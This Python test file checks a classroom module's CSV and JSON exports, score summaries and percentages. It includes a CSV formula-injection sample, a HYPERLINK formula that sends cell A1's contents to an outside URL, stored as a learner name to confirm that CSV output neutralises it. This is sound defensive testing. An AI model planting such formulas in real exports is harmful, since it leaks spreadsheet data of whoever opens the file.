"""Tests for classroom.export: rows, CSV with formula neutralisation, JSON.

$ pytest tests/unit -q -k classroom
"""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from classroom.export import (
    ESSAY_COLUMNS,
    EXPORT_COLUMNS,
    FORMULA_PREFIXES,
    SUMMARY_COLUMNS,
    essay_rows,
    export_rows,
    percent,
    summary_rows,
    to_csv,
    to_json,
)
from classroom.store import Store

HYPERLINK = '=HYPERLINK("http://x.io/?"&A1,"hi")'  # fits the 40-character name limit


@pytest.fixture
def store(tmp_path: Path) -> Store:
    return Store(tmp_path / "paralab.db")


def parse(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_export_rows_have_one_row_per_attempt(store: Store) -> None:
    ada = store.create_learner("Ada")
    store.record_attempt(ada.id, "pipeline", "q1", ["F0", "F1"], 0.5, 0.5, False)
    store.record_attempt(ada.id, "pipeline", "q1", {"b": 2, "a": 1}, 1.0, 0.75, True)

    rows = export_rows(store)

    assert [tuple(row) for row in rows] == [EXPORT_COLUMNS] * 2
    first, second = rows
    assert first["learner"] == "Ada"
    assert first["learner_id"] == ada.id
    assert (first["lesson"], first["question"], first["try"]) == ("pipeline", "q1", 1)
    assert first["answer"] == '["F0","F1"]'
    assert second["answer"] == '{"a":1,"b":2}'
    assert (second["try"], second["score"], second["raw_score"], second["correct"]) == (
        2,
        0.75,
        1.0,
        True,
    )
    stamp = datetime.fromisoformat(second["timestamp"])
    assert stamp.utcoffset() == timedelta(0)
    assert stamp >= datetime.fromisoformat(first["timestamp"])


def test_summary_rows_one_per_learner_and_lesson(store: Store) -> None:
    ada = store.create_learner("Ada")
    bob = store.create_learner("Bob")
    store.record_attempt(ada.id, "memory", "q1", "a", 0.0, 0.0, False)
    store.record_attempt(ada.id, "memory", "q1", "b", 1.0, 0.5, True)
    store.record_attempt(ada.id, "memory", "q2", "c", 0.25, 0.25, False)
    store.record_attempt(ada.id, "pipeline", "q1", "a", 1.0, 1.0, True)
    store.record_attempt(bob.id, "memory", "q1", "x", 0.0, 0.0, False)

    rows = summary_rows(store)

    assert [tuple(row) for row in rows] == [SUMMARY_COLUMNS] * 3
    assert [
        (r["learner"], r["lesson"], r["answered"], r["solved"], r["total_score"]) for r in rows
    ] == [
        ("Ada", "memory", 2, 1, 0.75),
        ("Ada", "pipeline", 1, 1, 1.0),
        ("Bob", "memory", 1, 0, 0.0),
    ]


def test_empty_store_exports_header_or_nothing(store: Store) -> None:
    assert export_rows(store) == []
    assert summary_rows(store) == []
    assert to_csv([]) == ""
    assert parse(to_csv([], EXPORT_COLUMNS)) == []
    assert to_csv([], EXPORT_COLUMNS).splitlines() == [",".join(EXPORT_COLUMNS)]
    assert json.loads(to_json([])) == []


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_each_dangerous_prefix_is_neutralised(prefix: str) -> None:
    value = f"{prefix}1+2"
    rows = [{"cell": value, "safe": "pipeline-basics"}]

    parsed = parse(to_csv(rows))

    assert parsed == [{"cell": "'" + value, "safe": "pipeline-basics"}]


def test_dangerous_learner_name_and_answer_are_neutralised_in_csv(store: Store) -> None:
    mallory = store.create_learner(HYPERLINK)
    store.record_attempt(mallory.id, "@lesson", "+q", -5, 0.0, 0.0, False)
    store.record_attempt(mallory.id, "@lesson", "+q", "=1+1", 1.0, 1.0, True)

    parsed = parse(to_csv(export_rows(store)))

    assert [row["learner"] for row in parsed] == ["'" + HYPERLINK] * 2
    assert [row["lesson"] for row in parsed] == ["'@lesson"] * 2
    assert [row["question"] for row in parsed] == ["'+q"] * 2
    # The answer column is JSON text: -5 is text there and gets the quote; a JSON string
    # starts with '"', which no spreadsheet reads as a formula.
    assert [row["answer"] for row in parsed] == ["'-5", '"=1+1"']
    summary = parse(to_csv(summary_rows(store)))
    assert summary[0]["learner"] == "'" + HYPERLINK


def test_numbers_stay_numbers_and_bools_read_plainly() -> None:
    rows = [{"score": -0.5, "try": 3, "correct": True, "missing": None}]

    assert parse(to_csv(rows)) == [{"score": "-0.5", "try": "3", "correct": "true", "missing": ""}]


def test_csv_parses_back_with_awkward_text(store: Store) -> None:
    ada = store.create_learner('Ada "the first", Lovelace')
    answer = {"a": 'say "hi",\nthen\r\nleave', "b": ["é", "漢字"]}
    store.record_attempt(ada.id, "lesson,1", "q\n1", answer, 1.0, 1.0, True)
    rows = export_rows(store)

    parsed = parse(to_csv(rows))

    assert len(parsed) == 1
    assert list(parsed[0]) == list(EXPORT_COLUMNS)
    assert parsed[0]["learner"] == 'Ada "the first", Lovelace'
    assert (parsed[0]["lesson"], parsed[0]["question"]) == ("lesson,1", "q\n1")
    assert json.loads(parsed[0]["answer"]) == answer
    assert parsed[0]["timestamp"] == rows[0]["timestamp"]


def test_json_round_trips_raw_values(store: Store) -> None:
    mallory = store.create_learner(HYPERLINK)
    store.record_attempt(mallory.id, "-lesson", "q", [1, "=2"], 0.5, 0.25, False)
    rows = export_rows(store)

    assert json.loads(to_json(rows)) == rows
    assert json.loads(to_json(rows))[0]["learner"] == HYPERLINK  # not neutralised
    assert json.loads(to_json(summary_rows(store))) == summary_rows(store)


@given(st.text())
def test_any_text_cell_reads_back_as_itself_or_quoted(value: str) -> None:
    parsed = parse(to_csv([{"cell": value}]))
    expected = "'" + value if value.startswith(FORMULA_PREFIXES) else value
    # csv in universal-newline-free mode keeps \r and \n inside quoted cells as written
    assert [row["cell"] for row in parsed] == [expected]


def test_question_rows_summarise_the_class_per_question_in_lesson_order(tmp_path):
    from classroom.export import question_rows

    store = Store(tmp_path / "class.db")
    ada, bob = store.create_learner("Ada"), store.create_learner("Bob")
    store.record_attempt(ada.id, "L", "q2", "x", 0.0, 0.0, False)
    store.record_attempt(ada.id, "L", "q2", "y", 1.0, 0.75, True)
    store.record_attempt(bob.id, "L", "q2", "x", 0.5, 0.5, False)
    store.record_attempt(bob.id, "other", "q1", "z", 1.0, 1.0, True)  # another lesson
    rows = question_rows(store, "L", ["q1", "q2"])
    assert rows[0] == {
        "question": "q1",
        "answered": 0,
        "solved": 0,
        "mean_best": None,
        "mean_tries": None,
    }
    assert rows[1]["question"] == "q2"
    assert (rows[1]["answered"], rows[1]["solved"]) == (2, 1)
    assert rows[1]["mean_best"] == (0.75 + 0.5) / 2  # Ada's best 0.75, Bob's 0.5
    assert rows[1]["mean_tries"] == 1.5


def test_every_score_export_carries_percent_of_maximum_points(store: Store) -> None:
    ada = store.create_learner("Ada")
    store.record_attempt(ada.id, "pipeline", "q1", "a", 1.0, 0.5, False)  # 0.5 × 3 points
    store.record_attempt(ada.id, "pipeline", "q2", "b", 1.0, 1.0, True)  # 1 × 0 points
    store.record_attempt(ada.id, "other", "q1", "c", 1.0, 1.0, True)  # lesson not known
    store.submit_essay(ada.id, "pipeline", "e1", "Because the ramps idle.")
    points = {"pipeline": {"q1": 3.0, "q2": 0.0, "e1": 2.0}}

    attempts = {(r["lesson"], r["question"]): r for r in export_rows(store, points)}
    summary = {r["lesson"]: r for r in summary_rows(store, points)}
    (essay,) = essay_rows(store, points)

    assert attempts["pipeline", "q1"]["percent"] == 50.0
    assert attempts["pipeline", "q2"]["percent"] is None  # a maximum of 0 has no percentage
    assert attempts["other", "q1"]["percent"] == 100.0  # an unknown question weighs 1
    assert (summary["pipeline"]["total_points"], summary["pipeline"]["max_points"]) == (1.5, 5.0)
    assert summary["pipeline"]["percent"] == 30.0
    assert summary["other"]["percent"] is None  # no maximum known, no percentage
    assert essay["percent"] is None  # not graded yet
    store.grade_essay(ada.id, "pipeline", "e1", [0], 0.75)
    assert [r["percent"] for r in essay_rows(store, points)] == [75.0]
    csv_rows = parse(to_csv(export_rows(store, points), EXPORT_COLUMNS))
    assert [r["percent"] for r in csv_rows] == ["50.0", "", "100.0"]
    # graded, the essay's 0.75 × 2 points join the total: (1.5 + 1.5) / 5
    assert [r["percent"] for r in parse(to_csv(summary_rows(store, points)))] == ["", "60.0"]
    assert [r["percent"] for r in json.loads(to_json(summary_rows(store, points)))] == [None, 60.0]
    for columns in (EXPORT_COLUMNS, SUMMARY_COLUMNS, ESSAY_COLUMNS):  # beside the maximum
        assert columns.index("percent") == columns.index("max_points") + 1


def test_a_question_removed_from_its_lesson_does_not_push_the_summary_over_100(store) -> None:
    ada = store.create_learner("Ada")
    store.record_attempt(ada.id, "pipeline", "q1", "a", 1.0, 1.0, True)
    store.record_attempt(ada.id, "pipeline", "gone", "b", 1.0, 1.0, True)  # since removed
    (row,) = summary_rows(store, {"pipeline": {"q1": 1.0}})
    assert (row["total_points"], row["max_points"], row["percent"]) == (1.0, 1.0, 100.0)


def test_percent_rounds_to_one_decimal_and_is_empty_without_a_maximum() -> None:
    assert (percent(1, 3), percent(2, 3), percent(0.0, 2)) == (33.3, 66.7, 0.0)
    assert (percent(1, 0), percent(None, 2), percent(1, None)) == (None, None, None)


def test_a_graded_essay_counts_in_the_lesson_summary(store: Store) -> None:
    """An essay's points are in the lesson's maximum, so its grade is in the total once
    given (as a Moodle quiz counts a graded essay); until then the row says how many of
    the learner's essays wait for a grade. A learner who only wrote an essay has a row."""
    ada, bob = store.create_learner("Ada"), store.create_learner("Bob")
    store.record_attempt(ada.id, "case", "q1", "a", 1.0, 1.0, True)  # 1 × 1 point
    store.submit_essay(ada.id, "case", "e1", "Because the ramps idle.")  # worth 2 points
    store.submit_essay(bob.id, "case", "e1", "Memory, then bandwidth.")
    points = {"case": {"q1": 1.0, "e1": 2.0}}

    def summary() -> dict[str, dict]:
        return {r["learner"]: r for r in summary_rows(store, points)}

    before = summary()
    assert (before["Ada"]["total_points"], before["Ada"]["max_points"]) == (1.0, 3.0)
    assert (before["Ada"]["answered"], before["Ada"]["essays_to_grade"]) == (2, 1)
    assert (before["Bob"]["answered"], before["Bob"]["solved"], before["Bob"]["tries"]) == (1, 0, 0)
    assert (before["Bob"]["total_points"], before["Bob"]["percent"]) == (0.0, 0.0)

    store.grade_essay(ada.id, "case", "e1", [0, 1], 1.0)
    store.grade_essay(bob.id, "case", "e1", [0], 0.5)
    after = summary()
    assert (after["Ada"]["total_points"], after["Ada"]["percent"]) == (3.0, 100.0)
    assert (after["Ada"]["total_score"], after["Ada"]["essays_to_grade"]) == (2.0, 0)
    assert (after["Bob"]["total_points"], after["Bob"]["percent"]) == (1.0, 33.3)
    assert after["Bob"]["solved"] == 0  # an essay is graded, not solved
    assert [tuple(r) for r in summary_rows(store, points)] == [SUMMARY_COLUMNS] * 2
